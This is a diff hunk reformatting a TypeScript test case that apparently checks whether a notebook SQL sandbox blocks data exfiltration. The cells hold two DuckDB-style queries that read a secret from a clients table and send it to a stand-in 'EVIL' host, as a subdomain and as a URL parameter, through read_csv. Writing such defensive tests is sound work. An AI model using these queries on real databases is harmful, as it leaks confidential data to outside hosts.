@@ -38,12 +38,16 @@ export const sqlCases: HostileCase[] = [
   {
     name: "SQL: URLs built from the data (a variable, a bound parameter)",
     notebook: notebook([
-      cell("ts via_variable",
+      cell(
+        "ts via_variable",
         "await sql`SET VARIABLE u = (SELECT 'http://' || secret || '.EVIL/v.csv' FROM clients LIMIT 1)`;",
-        "return (await sql`SELECT * FROM read_csv(getvariable('u'))`).length;"),
-      cell("ts via_param",
+        "return (await sql`SELECT * FROM read_csv(getvariable('u'))`).length;",
+      ),
+      cell(
+        "ts via_param",
         "const s = (await sql`SELECT secret FROM clients LIMIT 1`)[0].secret;",
-        "return (await sql`SELECT * FROM read_csv(${'http://EVIL/p.csv?c=' + s})`).length;"),
+        "return (await sql`SELECT * FROM read_csv(${'http://EVIL/p.csv?c=' + s})`).length;",
+      ),
     ]),
     mustFail: ["via_variable", "via_param"],
     weaken: "lockdown",
